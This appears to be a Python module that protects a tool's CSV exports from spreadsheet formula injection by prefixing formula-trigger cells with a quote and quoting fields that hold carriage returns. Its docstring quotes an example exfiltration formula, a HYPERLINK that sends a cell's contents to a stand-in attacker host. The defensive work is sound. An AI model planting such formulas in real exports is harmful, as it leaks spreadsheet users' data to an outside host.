"""CSV cells a spreadsheet will not run: Warden's one guard against CSV (formula) injection.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and treat a leading tab or carriage return the same way. Exports quote
notices, findings and payloads verbatim, and any of them may start with
``=HYPERLINK("http://evil.example/?leak="&A1)``. As OWASP advises, such a text cell is prefixed
with ``'`` (the spreadsheet then shows it as text); numbers are left alone. Every CSV Warden
writes goes through :func:`writer` (or :func:`safe_row`).

A carriage return inside a cell is a second way in: Python 3.11's ``csv`` writer leaves a field
holding a bare ``\r`` unquoted when rows end in ``\n``, and a spreadsheet starts a new row at
it (``quote\r=HYPERLINK(...)`` puts the formula first in a row of its own). :func:`writer`
quotes every field of such a row.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

__all__ = ["FORMULA_TRIGGERS", "SafeWriter", "safe_cell", "safe_row", "writer"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula in a cell's first character."""


def safe_cell(value: Any) -> Any:
    """`value`, with ``'`` in front when it is text starting with a formula trigger."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """A CSV row with every cell made :func:`safe_cell`."""
    return [safe_cell(c) for c in cells]


class SafeWriter:
    """``csv.writer(out, lineterminator="\\n")`` whose rows are :func:`safe_row` and whose fields
    holding a carriage return are quoted."""

    def __init__(self, out: TextIO) -> None:
        self._minimal = csv.writer(out, lineterminator="\n")
        self._all = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, cells: Iterable[Any]) -> None:
        row = safe_row(cells)
        carriage = any(isinstance(c, str) and "\r" in c for c in row)
        (self._all if carriage else self._minimal).writerow(row)


def writer(out: TextIO) -> SafeWriter:
    """The CSV writer every export uses: one row a line, formula cells prefixed with ``'``."""
    return SafeWriter(out)
